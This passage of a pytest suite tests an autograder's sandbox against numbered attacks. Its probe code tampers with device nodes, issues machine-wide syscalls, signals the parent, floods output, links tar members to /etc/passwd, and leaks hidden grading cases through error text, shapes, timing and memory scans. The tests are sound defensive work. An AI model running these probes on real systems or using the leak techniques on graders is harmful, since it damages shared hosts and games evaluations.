        os.kill(target, signal.SIGKILL)
    except OSError:
        pass
"""

SYSCALL_PROBE = """
import os, ctypes, platform
libc = ctypes.CDLL(None, use_errno=True)
nr = {'x86_64': {'sync': 162, 'syncfs': 306, 'inotify_init1': 294},
      'aarch64': {'sync': 81, 'syncfs': 267, 'inotify_init1': 26}}.get(platform.machine(), {})
if nr:
    if libc.syscall(nr['sync']) == 0:
        _atk['d_head'] = True
    fd = os.open('/usr/bin/env', os.O_RDONLY)
    if libc.syscall(nr['syncfs'], fd) == 0:
        _atk['d_head'] = True
    try:
        os.posix_fadvise(fd, 0, 0, os.POSIX_FADV_DONTNEED)
        _atk['identity_output'] = True
    except OSError:
        pass
    r = libc.syscall(nr['inotify_init1'], 0)
    if r >= 0:
        _atk['concat_vs_average'] = True
"""

FLOOD_ANSWERS = dict(
    CORRECT,
    q03_identity_output="identity_output = []\nfor _ in range(200000):\n    identity_output = [identity_output]\n",
    q03_concat_project=(
        "def concat_project(head_outputs, w_o):\n    import sys\n"
        "    print('z' * (8 << 20)); sys.stderr.write('w' * (8 << 20))\n"
        "    deep = []\n    for _ in range(200000):\n        deep = [deep]\n    return deep\n"
    ),
)


@pytest.fixture(scope="module")
def probes(tmp_path_factory):
    require_sandbox()
    base = tmp_path_factory.mktemp("probes")
    subs = base / "subs"
    before = {p: os.stat(p) for p in DEVICES if os.path.exists(p)}
    put(subs / "vic" / "hw.ipynb", make_notebook())
    put(subs / "devs" / "hw.ipynb", probe_nb(DEV_PROBE))
    put(subs / "envp" / "hw.ipynb", probe_nb(_env_probe(base)))
    put(subs / "fill" / "hw.ipynb", probe_nb(FILL_PROBE))
    put(subs / "sig" / "hw.ipynb", probe_nb(SIG_PROBE, after=SIG_KILL))
    put(subs / "sysc" / "hw.ipynb", probe_nb(SYSCALL_PROBE))
    flood = filled(A03, FLOOD_ANSWERS, added=[("q03_d_head", "print('q' * (30 << 20))")])
    put(subs / "flood" / "hw.ipynb", flood)
    gb = base / "gradebook.csv"
    fb = base / "feedback"
    rc, out, err, dt = grade([subs], gb, feedback=fb, timeout=9)
    after = {p: os.stat(p) for p in before}
    return dict(base=base, gb=gb, fb=fb, rc=rc, out=out, err=err, dt=dt, before=before, after=after)


def test_device_nodes_of_the_host_cannot_be_changed(probes):
    """Attack 17 (issue 31.3, beyond chmod): utime, chmod to the same mode and chown to the
    same owner on /dev/null, zero, full, random, urandom, tty from inside; the host's nodes keep
    mode, owner, mtime and ctime, and no call succeeds."""
    for p, b in probes["before"].items():
        a = probes["after"][p]
        assert a.st_mtime != MAGIC_TIME, f"{p}'s mtime was set from the sandbox"
        assert (a.st_mode, a.st_uid, a.st_gid) == (b.st_mode, b.st_uid, b.st_gid), p
        if p != "/dev/tty":
            assert a.st_ctime == b.st_ctime, f"{p}'s inode was changed (ctime moved)"
    r = row(probes["gb"], "devs")
    assert_probe_clean(r, which=("q03_d_head",))


def test_student_code_is_not_root_and_owns_no_device(probes):
    """Attack 18 (issue 31.3): inside, uid/euid/gid are not 0 and no device node is owned by
    the student's uid (an owner equal to the student's uid is what lets utime/chmod work)."""
    assert_probe_clean(row(probes["gb"], "devs"), which=("q03_identity_output",))


def test_environment_and_file_system_probing_find_nothing(probes):
    """Attack 19 (environment probing): no variable naming the course, the test folder, /work or
    /root; none of the course, its solutions, the test folder, /work/shared, /root's private
    files (.ssh, .bash_history, .cache; /root/.pyenv may hold the Python installation), /home, /proc,
    /sys, /etc/shadow, a docker socket; no bank, notebook, gradebook or self-check data anywhere
    outside /usr and the Python installation."""
    assert_probe_clean(row(probes["gb"], "envp"))


def test_writable_space_is_capped_and_has_no_user_xattrs(probes):
    """Attack 20 (issue 31.4): at most the documented 64 MiB of files in all writable places
    together, and no user extended attributes (memory no rlimit sees)."""
    assert_probe_clean(row(probes["gb"], "fill"), which=("q03_d_head", "q03_identity_output"))


def test_queued_signals_are_limited_and_kills_stay_inside(probes):
    """Attack 21 (issue 31.7, signals): fewer than 4096 real-time signals can be queued (they
    are charged to the grader's uid); SIGKILL to the parent, to pid 1 and to -1 ends only the
    student's own sandbox: the classmate graded beside it is untouched."""
    assert_probe_clean(row(probes["gb"], "sig"), which=("q03_d_head",))
    v = row(probes["gb"], "vic")
    assert num(v["total"]) == 8 and v["status"] == "ok", v


def test_machine_wide_calls_are_refused(probes):
    """Attack 36 (issue 31.7): sync() and syncfs() (machine-wide writeback), posix_fadvise
    DONTNEED (cache eviction of files other students share) and inotify_init1 (charged to the
    grader's uid) must all be refused inside."""
    assert_probe_clean(row(probes["gb"], "sysc"))


def test_output_flood_and_deep_structures_through_the_report(probes):
    """Attack 22 (report channel): 38 MB of printed output and answers nested 200000 deep (a
    JSON decoder's recursion limit in the grader) give a row of their own, bounded files, no
    traceback and no harm to the others."""
    assert "Traceback" not in probes["err"], probes["err"][-3000:]
    r = row(probes["gb"], "flood")
    assert num(r["q03_concat_project"]) == 0 and num(r["q03_identity_output"]) == 0, r
    assert probes["gb"].stat().st_size < 100_000
    assert all(f.stat().st_size < 100_000 for f in probes["fb"].rglob("*") if f.is_file())
    assert num(row(probes["gb"], "vic")["total"]) == 8


PERSIST_PROBE = """
import os, tempfile, glob, time
places = ['/sandbox', os.getcwd(), tempfile.gettempdir(), '/dev/shm', '/var/tmp', '/tmp',
          os.path.expanduser('~')]
me = os.urandom(8).hex()
for d in places:
    for f in glob.glob(os.path.join(d, 'atk-marker-*')):
        if me not in f:
            _atk['d_head'] = True
for p in ('/dev/zero', '/dev/null', '/dev/urandom'):
    try:
        if int(os.stat(p).st_mtime) == 1111111111:
            _atk['identity_output'] = True
    except OSError:
        pass
for d in places:
    try:
        open(os.path.join(d, 'atk-marker-' + me), 'w').write(me)
    except OSError:
        pass
for p in ('/dev/zero', '/dev/null', '/dev/urandom'):
    try:
        os.utime(p, (1111111111, 1111111111))
    except OSError:
        pass
"""


def test_nothing_persists_from_one_student_to_the_next(tmp_path):
    """Attack 23 (issue 31.3, covert channel between students): student A leaves a marker in
    every writable place and a mark in device times; student B, graded after A, finds none;
    the host's /tmp, /var/tmp and /dev/shm hold no marker afterwards."""
    require_sandbox()
    subs = tmp_path / "subs"
    put(subs / "pa" / "hw.ipynb", probe_nb(PERSIST_PROBE))
    put(subs / "pb" / "hw.ipynb", probe_nb(PERSIST_PROBE))
    gb = tmp_path / "gradebook.csv"
    grade([subs], gb, timeout=6, jobs=1)
    for s in ("pa", "pb"):
        assert_probe_clean(row(gb, s), which=("q03_d_head", "q03_identity_output"))
    for d in ("/tmp", "/var/tmp", "/dev/shm"):
        assert not list(Path(d).glob("atk-marker-*")), f"marker left on the host in {d}"
    for p in ("/dev/zero", "/dev/null", "/dev/urandom"):
        assert int(os.stat(p).st_mtime) != 1111111111, f"{p} carries the mark set inside"


# --------------------------------------------------------------------------- hidden cases

PUB_VAR = "_PUBLIC"


def _hidden_preamble(public):
    return FP_SRC + f"{PUB_VAR} = {sorted(public)!r}\n"


def _channels_01():
    return {
        # the returned object's type name and repr are the marker
        "q01_scores": (
            "def attention_scores(x, w_q, w_k):\n"
            "    m = 'QZ' + _fp(x)\n"
            "    return type(m, (), {'__repr__': lambda s: m, '__str__': lambda s: m})()\n"
        ),
        # a dict whose key is the marker, and an exception with a note and a cause
        "q01_softmax": (
            "def softmax_over_keys(scores):\n"
            "    m = 'QZ' + _fp(scores)\n"
            "    e = RuntimeError(m)\n"
            "    e.add_note(m)\n"
            "    try:\n"
            "        raise KeyError(m)\n"
            "    except KeyError as c:\n"
            "        raise e from c\n"
        ),
        # a wrong shape that encodes the input: 7000 + 3 hex digits
        "q01_masked_attention": (
            "def masked_attention(q, k, v, mask):\n"
            "    import numpy as np\n"
            "    n = 7000 + int(_fp(q)[:3], 16)\n"
            "    return np.zeros(n), np.zeros(n)\n"
        ),
    }


def _channels_02():
    stash = f"    global weights_shape\n    if m[2:] not in {PUB_VAR}:\n        weights_shape = m\n"
    return {
        "q02_split_heads": (
            "def split_heads(x, num_heads):\n    m = 'QZ' + _fp(x)\n"
            + stash
            + "    raise ValueError(m + ' ' + m)\n"
        ),
        "q02_merge_heads": (
            "def merge_heads(x):\n    m = 'QZ' + _fp(x)\n" + stash + "    return m\n"
        ),
        "q02_per_head_attention": (
            "def per_head_attention(x, w_q, w_k, w_v, num_heads):\n    m = 'QZ' + _fp(x)\n"
            + stash
            + "    raise type(m, (ValueError,), {})(m)\n"
        ),
        "q02_full_layer": (
            "def multi_head_layer(x, w_q, w_k, w_v, w_o, num_heads, mask=None):\n"
            "    import sys, warnings\n    m = 'QZ' + _fp(x)\n"
            + stash
            + "    print(m); print(m, file=sys.stderr); warnings.warn(m)\n"
            "    raise OSError(2, m, m)\n"
        ),
        "q02_weights_shape": "weights_shape = None\n",
    }


PERSIST_FN = (
    "def concat_project(head_outputs, w_o):\n"
    "    import os, tempfile, builtins, sys, glob\n"
    "    f = _fp(head_outputs)\n"
    "    places = ['/sandbox', os.getcwd(), tempfile.gettempdir(), '/dev/shm', '/var/tmp',\n"
    "              os.path.expanduser('~')]\n"
    "    seen = list(getattr(builtins, '_atk_seen', []))\n"
    "    for d in places:\n"
    "        for p in glob.glob(os.path.join(d, 'atkfp-*')):\n"
    "            seen.append(p.rsplit('-', 1)[-1])\n"
    "    for d in places:\n"
    "        try:\n"
    "            open(os.path.join(d, 'atkfp-' + f), 'w').close()\n"
    "        except OSError:\n"
    "            pass\n"
    "    builtins._atk_seen = seen + [f]\n"
    f"    hidden = [s for s in seen if s not in {PUB_VAR}]\n"
    "    raise ValueError('QZ' + (hidden[0] if hidden else f))\n"
)


@pytest.fixture(scope="module")
def hidden(tmp_path_factory):
    require_sandbox()
    base = tmp_path_factory.mktemp("hidden")
    subs = base / "subs"
    public = public_fps("01_recap_self_attention", "02_heads", A03)
    pre = _hidden_preamble(public)
    put(
        subs / "chan1" / "hw.ipynb",
        filled("01_recap_self_attention", _channels_01(), added=[("setup", pre)]),
    )
    put(subs / "chan2" / "hw.ipynb", filled("02_heads", _channels_02(), added=[("setup", pre)]))
    put(
        subs / "persist" / "hw.ipynb",
        filled(A03, dict(CORRECT, q03_concat_project=PERSIST_FN), added=[("setup", pre)]),
    )
    put(
        subs / "memscan" / "hw.ipynb",
        filled(
            A03,
            dict(CORRECT, q03_concat_project=MEMSCAN_FN),
            added=[
                ("setup", pre + MEMSCAN_SRC),
                ("q03_d_head", "_f = _scan()\nif _f:\n    raise ValueError('QZ' + _f[0])\n"),
            ],
        ),
    )
    gb = base / "gradebook.csv"
    fb = base / "feedback"
    rc, out, err, dt = grade([subs], gb, feedback=fb, timeout=9)
    return dict(base=base, gb=gb, fb=fb, rc=rc, out=out, err=err, public=public)


MEMSCAN_SRC = (
    "def _scan():\n"
    "    import gc, sys, numpy as np\n"
    "    found = []\n"
    "    def look(v):\n"
    "        if isinstance(v, np.ndarray) and v.dtype.kind == 'f' and v.ndim == 3:\n"
    "            f = _fp(v)\n"
    f"            if f not in {PUB_VAR}:\n"
    "                found.append(f)\n"
    "    for o in gc.get_objects():\n"
    "        try:\n"
    "            if isinstance(o, (list, tuple)):\n"
    "                for v in o[:50]:\n"
    "                    look(v)\n"
    "                    if isinstance(v, (list, tuple)):\n"
    "                        for w in v[:50]:\n"
    "                            look(w)\n"
    "            elif isinstance(o, dict):\n"
    "                for v in list(o.values())[:50]:\n"
    "                    look(v)\n"
    "        except Exception:\n"
    "            pass\n"
    "    f = sys._getframe()\n"
    "    while f is not None:\n"
    "        for v in list(f.f_locals.values()):\n"
    "            look(v)\n"
    "        f = f.f_back\n"
    "    return found\n"
)
MEMSCAN_FN = (
    "def concat_project(head_outputs, w_o):\n"
    "    found = [x for x in _scan() if x != _fp(head_outputs)]\n"
    "    raise ValueError('QZ' + (found[0] if found else _fp(head_outputs)))\n"
)


def test_hidden_cases_are_not_in_memory_while_student_code_runs(hidden):
    """Attack 31 (issue 31.2, memory): a cell and the function walk the garbage collector's
    objects and the call stack for arrays that are not public cases (the hidden cases waiting
    to be called) and quote one in their error text, which is shown for cells and public cases."""
    text = all_text(hidden["fb"], hidden["gb"], hidden["out"])
    assert "memscan" in text
    leaks = leaked(text, hidden["public"])
    assert not leaks, leaks[:3]


def _hidden_text(h):
    return all_text(h["gb"], h["fb"], h["out"], h["err"])


def test_hidden_inputs_do_not_leak_through_text_channels(hidden):
    """Attack 24 (issue 31.2): exception messages, a returned text, an exception subclass named
    after the input, printed and warned text, OSError's filename fields, and a value answer a
    function rewrote during the hidden calls: no hidden fingerprint in feedback, gradebook or
    console."""
    text = _hidden_text(hidden)
    assert "chan2" in text
    leaks = leaked(text, hidden["public"])
    assert not leaks, f"{len(leaks)} hidden input(s) reached the output, e.g. {leaks[:3]}"


def test_hidden_inputs_do_not_leak_through_names_notes_and_shapes(hidden):
    """Attack 25 (issue 31.2): a returned object whose type name and repr are the input's
    fingerprint, an exception's note and cause, and a wrong shape 7000 + 3 hex digits of the
    input."""
    fb = all_text(hidden["fb"], hidden["gb"], hidden["out"])
    leaks = leaked(fb, hidden["public"])
    assert not leaks, leaks[:3]
    prefixes = {p[:3] for p in hidden["public"]}
    shapes = {
        int(n) for n in re.findall(r"(?<!\d)(\d{4,5})(?!\d)", fb) if 7000 <= int(n) < 7000 + 4096
    }
    hidden_shapes = sorted(n for n in shapes if f"{n - 7000:03x}" not in prefixes)
    assert not hidden_shapes, f"shapes encoding hidden inputs: {hidden_shapes}"


def test_hidden_inputs_do_not_survive_into_the_public_rerun(hidden):
    """Attack 26 (issue 31.2, shared paths): the function stores every input it sees in files
    in every writable place and in builtins, and on the next run quotes a stored hidden one in
    its error; the public-only run must not see what the hidden run stored."""
    text = all_text(hidden["fb"], hidden["gb"])
    assert "persist" in text
    leaks = leaked(text, hidden["public"])
    assert not leaks, leaks[:3]


DETERMINISM_FN = (
    "def concat_project(head_outputs, w_o):\n"
    "    import numpy as np, time\n"
    "    f = _fp(head_outputs)\n"
    f"    if f in {PUB_VAR}:\n"
    "        return np.concatenate([np.asarray(x) for x in head_outputs], axis=-1) @ w_o\n"
    "    bits = int(f, 16)\n"
    "    kinds = [ValueError, TypeError, IndexError, KeyError, ZeroDivisionError,\n"
    "             RuntimeError, AttributeError, OverflowError]\n"
    "    print('p' * (bits % 97))\n"
    "    raise kinds[bits % 8]('y' * (bits % 41))\n"
)


TIMING_FN = (
    "def concat_project(head_outputs, w_o):\n"
    "    import numpy as np, time\n"
    "    f = _fp(head_outputs)\n"
    "    right = np.concatenate([np.asarray(x) for x in head_outputs], axis=-1) @ w_o\n"
    f"    if f in {PUB_VAR}:\n"
    "        return right\n"
    "    if int(f, 16) % 2:\n"
    "        time.sleep(2)\n"
    "    return right + 1.0\n"
)


SEEDS = (11, 22, 33)


@pytest.fixture(scope="module")
def seeded(tmp_path_factory):
    """Two students graded three times with three seeds (one run per seed)."""
    require_sandbox()
    base = tmp_path_factory.mktemp("seeded")
    pre = [("setup", _hidden_preamble(public_fps(A03)))]
    put(
        base / "subs" / "bits" / "hw.ipynb",
        filled(A03, dict(CORRECT, q03_concat_project=DETERMINISM_FN), added=pre),
    )
    put(
        base / "subs" / "tick" / "hw.ipynb",
        filled(A03, dict(CORRECT, q03_concat_project=TIMING_FN), added=pre),
    )
    runs = {}
    for seed in SEEDS:
        fb = base / f"fb{seed}"
        gb = base / f"gb{seed}.csv"
        grade([base / "subs"], gb, "--seed", seed, feedback=fb, timeout=2)
        runs[seed] = dict(gb=gb, fb=fb)
    return runs


def _feedback_of(runs, student):
    texts = []
    for seed, r in runs.items():
        md = sorted(r["fb"].rglob(f"{student}*.md"))
        assert md, f"no feedback for {student} with seed {seed}"
        texts.append(md[0].read_text("utf-8"))
    return texts


def _diff(texts):
    return "\n---\n".join(
        "\n".join(
            x
            for x in t.splitlines()
            if "q03_concat_project" in x or "case" in x or x.startswith("Status")
        )
        for t in texts
    )


def test_feedback_is_the_same_whatever_the_hidden_cases(seeded):
    """Attack 27 (issue 31.2, exception-type and length channels): a function right on the
    public cases and, on hidden ones, raising one of 8 exception types with a message and
    printed output whose lengths encode the input. Runs with three seeds must give the same
    feedback: anything that differs was read from the hidden cases."""
    for r in seeded.values():
        assert num(row(r["gb"], "bits")["q03_concat_project"]) == 0
    texts = _feedback_of(seeded, "bits")
    assert len(set(texts)) == 1, "feedback depends on the hidden cases:\n" + _diff(texts)


def test_feedback_does_not_tell_which_hidden_case_timed_out(seeded):
    """Attack 37 (issue 31.2, timing side channel): right on the public cases; on a hidden case
    it either sleeps past the call's limit or returns a wrong value, by one bit of the input.
    Three seeds must give the same feedback (a leak shows with probability at least 3/4)."""
    texts = _feedback_of(seeded, "tick")
    assert len(set(texts)) == 1, "feedback depends on the hidden cases:\n" + _diff(texts)


# --------------------------------------------------------------------------- cost and validate

ALARM_PROOF_FN = (
    "def concat_project(head_outputs, w_o):\n"
    "    import signal\n"
    "    for s in (signal.SIGALRM, signal.SIGVTALRM, signal.SIGPROF, signal.SIGINT,\n"
    "              signal.SIGTERM, signal.SIGXCPU, signal.SIGUSR1, signal.SIGUSR2):\n"
    "        try:\n"
    "            signal.signal(s, signal.SIG_IGN)\n"
    "        except Exception:\n"
    "            pass\n"
    "    try:\n"
    "        signal.pthread_sigmask(signal.SIG_BLOCK, set(signal.Signals) - {signal.SIGKILL, signal.SIGSTOP})\n"
    "    except Exception:\n"
    "        pass\n"
    "    while True:\n"
    "        try:\n"
    "            while True:\n"
    "                pass\n"
    "        except BaseException:\n"
    "            pass\n"
)


def test_alarm_proof_function_costs_a_bounded_time(tmp_path):
    """Attack 28 (issue 31.6, not a cell: the function itself): a function that ignores and
    blocks every catchable signal and swallows every exception, called on each case, plus a
    cell that kills the program. One notebook at --timeout 3 must cost at most about two
    notebook runs (2 x 3 s + twice a plain notebook's cost on this machine), whatever reruns
    follow."""
    require_sandbox()
    nb = filled(
        A03,
        dict(CORRECT, q03_concat_project=ALARM_PROOF_FN),
        added=[("q03_d_head", "import os\nif 'd_head' in dir(): os._exit(0)")],
    )
    put(tmp_path / "subs" / "slow" / "hw.ipynb", nb)
    # the machine's own cost of one plain notebook, so that a loaded machine is not an attack
    put(tmp_path / "plain" / "calm" / "hw.ipynb", make_notebook())
    *_, base = grade([tmp_path / "plain"], tmp_path / "gb0.csv", timeout=3, jobs=1)
    rc, so, se, dt = grade([tmp_path / "subs"], tmp_path / "gb.csv", timeout=3, jobs=1)
    assert (tmp_path / "gb.csv").exists(), so + se
    assert dt < 2 * 3 + 2 * base, (
        f"one notebook cost {dt:.1f} s at --timeout 3 (plain: {base:.1f} s)"
    )


def test_thirty_copies_in_one_upload_cost_a_bounded_time(tmp_path):
    """Attack 29 (issue 31.6, one zip): one Canvas student's zip holding 30 notebooks, each
    spending 1.2 s in sleeps (under every per-cell limit). The student's cost must be capped:
    the whole run at --timeout 2 under 3 x 2 s + 10 s."""
    require_sandbox()
    dl = tmp_path / "dl"
    dl.mkdir()
    sleepy = make_notebook(
        edit=lambda nb: [
            nb.cells.insert(3, nbformat.v4.new_code_cell("import time\ntime.sleep(0.6)"))
            for _ in range(2)
        ]
    )
    with zipfile.ZipFile(dl / "greedy_2001_6001_all.zip", "w") as z:
        for k in range(30):  # each copy different, so no cache can share their runs
            sleepy.cells[3].source = f"import time\ntime.sleep(0.6)  # copy {k}"
            z.writestr(f"copies/hw_{k:02d}.ipynb", nbformat.writes(sleepy))
    put(dl / "calm_2002_6002_03.ipynb", make_notebook())
    rc, so, se, dt = grade([dl], tmp_path / "gb.csv", timeout=2, jobs=2)
    assert (tmp_path / "gb.csv").exists(), so + se
    assert num(row(tmp_path / "gb.csv", "2002")["total"]) == 8
    assert dt < 3 * 2 + 10, f"one student's upload cost {dt:.1f} s"


def test_twelve_notebooks_in_one_moodle_folder_cost_a_bounded_time(tmp_path):
    """Attack 33 (issue 31.6, Moodle folders layout): one student's submission folder holds 12
    different notebooks of the assignment, each spending 1.8 s in sleeps under every per-cell
    limit; the classmate beside it is graded and the run at --timeout 2 costs at most about two
    notebook runs (2 x 2 s + twice a plain notebook's cost on this machine)."""
    require_sandbox()
    dl = tmp_path / "dl"
    for k in range(12):
        nb = make_notebook(
            edit=lambda nb, k=k: [
                nb.cells.insert(
                    3, nbformat.v4.new_code_cell(f"import time\ntime.sleep(0.6)  # {k}.{j}")
                )
                for j in range(3)
            ]
        )
        put(dl / "Greedy G_512401_assignsubmission_file_" / f"hw_{k:02d}.ipynb", nb)
    put(dl / "Calm C_512402_assignsubmission_file_" / "hw.ipynb", make_notebook())
    # the machine's own cost of one plain notebook, so that a loaded machine is not an attack
    put(tmp_path / "plain" / "calm" / "hw.ipynb", make_notebook())
    *_, base = grade([tmp_path / "plain"], tmp_path / "gb0.csv", timeout=2, jobs=2)
    rc, so, se, dt = grade([dl], tmp_path / "gb.csv", timeout=2, jobs=2)
    assert (tmp_path / "gb.csv").exists(), so + se
    assert num(row(tmp_path / "gb.csv", "512402")["total"]) == 8
    assert dt < 2 * 2 + 2 * base, (
        f"one student's 12 notebooks cost {dt:.1f} s (plain: {base:.1f} s)"
    )


def test_canvas_export_never_picks_one_of_two_lookalike_columns(canvas, tmp_path):
    """Attack 34 (issue 30.4, careless instructor): the Canvas export has two columns that both
    start with the exercise's number ('03 Concat and project v1 (111)' and '... v2 (222)',
    a copy of the assignment). The export must not silently fill one of them."""
    roster = tmp_path / "two_columns.csv"
    lines = canvas["roster"].read_text("utf-8").splitlines()
    head = (
        lines[0].rsplit(",", 1)[0]
        + ",03 Concat and project v1 (111),03 Concat and project v2 (222)"
    )
    body = [lines[1] + ",10"] + [x.rsplit(",", 1)[0] + ",," for x in lines[2:]]
    roster.write_text("\n".join([head] + body) + "\n", encoding="utf-8")
    out = tmp_path / "canvas_import.csv"
    rc, so, se, _ = cli(
        "export",
        canvas["gb"],
        "--to",
        "canvas",
        "--roster",
        roster,
        "--out",
        out,
        "--assignment",
        A03,
    )
    if not out.exists():
        return  # refused: safe
    rdr = list(csv.reader(io.StringIO(out.read_text("utf-8-sig"))))
    filled_cols = [
        h
        for i, h in enumerate(rdr[0])
        if h.endswith(("(111)", "(222)")) and any(len(r) > i and r[i] for r in rdr[1:])
    ]
    assert not (filled_cols and rc == 0), f"silently filled {filled_cols}: {so}"
    assert not filled_cols or ("111" in so + se and "222" in so + se), (
        f"filled {filled_cols} without naming both columns: {so}{se}"
    )


def test_tar_uploads_with_hard_and_symbolic_links_are_named_not_lost(tmp_path):
    """Attack 38 (archives the tool does not read; issue 30.5): two Canvas students upload a
    .tar whose member 03.ipynb is a hard link, and a .tar.gz whose member is a symbolic link,
    to /etc/passwd. Nothing of the target is read, and each upload is named in its uploader's
    row (a non-notebook file is named, never 'no submission' or no row at all)."""
    require_sandbox()
    import tarfile

    dl = tmp_path / "dl"
    dl.mkdir()
    for name, kind, mode in (
        ("hl_2001_6001_hw.tar", tarfile.LNKTYPE, "w"),
        ("sl_2002_6002_hw.tar.gz", tarfile.SYMTYPE, "w:gz"),
    ):
        with tarfile.open(dl / name, mode) as t:
            ti = tarfile.TarInfo("03.ipynb")
            ti.type = kind
            ti.linkname = "/etc/passwd"
            t.addfile(ti)
    put(dl / "calm_2003_6003_03.ipynb", make_notebook())
    gb = tmp_path / "gb.csv"
    rc, so, se, _ = grade([dl], gb, timeout=6)
    text = all_text(gb, so, se)
    assert "root:x:0:0" not in text
    assert num(row(gb, "2003")["total"]) == 8
    for sid, name in (("2001", "hl_2001_6001_hw.tar"), ("2002", "sl_2002_6002_hw.tar.gz")):
        r = [r for r in rows(gb) if r["student_id"] == sid]
        assert r, (
            f"the upload of {sid} ({name}) left no row at all: {[x['student_id'] for x in rows(gb)]}"
        )
        assert not num(r[0]["total"]) and name in r[0]["file"] + r[0]["notes"], r[0]


def test_validate_never_runs_a_downloaded_notebook_unsandboxed(tmp_path):
    """Attack 30 (issue 31.8, a careless instructor on a machine without bubblewrap on PATH):
    `validate` of a submission saved outside the course must not run its code as the
    instructor. A cell that writes a file outside must leave nothing behind."""
    marker = tmp_path / "pwned"
    nb = make_notebook(
        edit=lambda nb: nb.cells.insert(
            3, nbformat.v4.new_code_cell(f"open({str(marker)!r}, 'w').write('ran as you')")
        )
    )
    sub = put(tmp_path / "Downloads" / "student.ipynb", nb)
    bindir = tmp_path / "bin"
    bindir.mkdir()
    os.symlink(sys.executable, bindir / "python")
    rc, so, se, _ = cli("validate", sub, "--timeout", 6, cwd=tmp_path, env={"PATH": str(bindir)})
    assert not marker.exists(), f"validate ran the notebook unsandboxed (rc {rc}): {so}{se}"
